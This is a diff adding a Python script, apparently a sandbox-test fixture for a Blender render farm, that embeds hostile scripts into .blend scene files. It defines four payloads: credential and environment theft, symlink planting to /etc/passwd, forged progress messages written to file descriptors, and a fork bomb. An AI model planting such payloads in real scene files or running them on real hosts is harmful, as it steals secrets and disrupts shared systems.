@@ -1,0 +1,82 @@
+"""Run by Blender: the monkey scene with a script in it that does harm. Arguments: scene, attack, …, out."""
+
+import os
+import sys
+
+import bpy
+
+SHARED = """
+import bpy, json, os, socket, sys
+def told(name, call):
+    try:
+        print("LOOT", json.dumps([name, repr(call())[:500]]), flush=True)
+    except BaseException as error:
+        print("LOOT", json.dumps([name, None, type(error).__name__]), flush=True)
+def every(root, most=200000):
+    seen = 0
+    for folder, folders, files in os.walk(root, followlinks=False):
+        for name in files:
+            seen += 1
+            if seen > most:
+                return
+            yield os.path.join(folder, name)
+"""
+
+ATTACKS = {
+    "thief": """
+told("secret", lambda: open(bpy.context.scene["secret"]).read())
+told("neighbour", lambda: [p for p in every("/") if os.path.basename(p) == "monkey.blend"][0])
+told("token", lambda: open(bpy.context.scene["runner"] + "/runner.json").read())
+told("environment", lambda: [e for p in os.listdir("/proc") if p.isdigit()
+    for e in [open(f"/proc/{p}/environ").read()] if "FRAMEFARM" in e][0])
+told("farm", lambda: socket.create_connection(("127.0.0.1", bpy.context.scene["port"]), 3))
+told("name", lambda: socket.getaddrinfo("example.com", 80)[0])
+told("write", lambda: open("/usr/bin/planted", "w").write("x"))
+told("root", lambda: os.setuid(0))
+told("done", lambda: "all was tried")
+""",
+    "planter": """
+@bpy.app.handlers.persistent
+def plant(scene, *_):
+    folder = os.path.dirname(bpy.path.abspath(scene.render.filepath)) or "."
+    os.symlink("/etc/passwd", folder + "/taken.png")
+    os.symlink(scene["secret"], folder + "/secret.png")
+    for name in (b"new\\nline.png", b"\\xff\\xfe.png", b"..\\\\up.png", b"a" * 250 + b".png"):
+        open(os.path.join(os.fsencode(folder), name), "wb").write(b"x")
+    os.mkfifo(folder + "/pipe.png")
+bpy.app.handlers.render_write.append(plant)
+bpy.app.handlers.render_post.append(plant)
+""",
+    "liar": """
+@bpy.app.handlers.persistent
+def lie(*_):
+    said = b"".join(json.dumps({"is": "saved", "frame": n}).encode() + b"\\n" for n in range(1, 50))
+    for descriptor in range(3, 256):
+        try:
+            os.write(descriptor, said)
+        except OSError:
+            pass
+bpy.app.handlers.render_pre.append(lie)
+""",
+    "bomb": """
+import time
+def fork():
+    ended = time.monotonic() + 8
+    while time.monotonic() < ended:
+        try:
+            if os.fork() == 0:
+                os.setsid()
+        except OSError:
+            time.sleep(0.01)
+fork()
+""",
+}
+path, attack, secret, runner, port, out = sys.argv[-6:]
+bpy.ops.wm.open_mainfile(filepath=path)
+text = bpy.data.texts.new("evil.py")
+text.write(SHARED + ATTACKS[attack])
+text.use_module = True
+scene = bpy.context.scene
+scene["secret"], scene["runner"], scene["port"] = secret, runner, int(port)
+bpy.ops.wm.save_as_mainfile(filepath=out)
+os._exit(0)
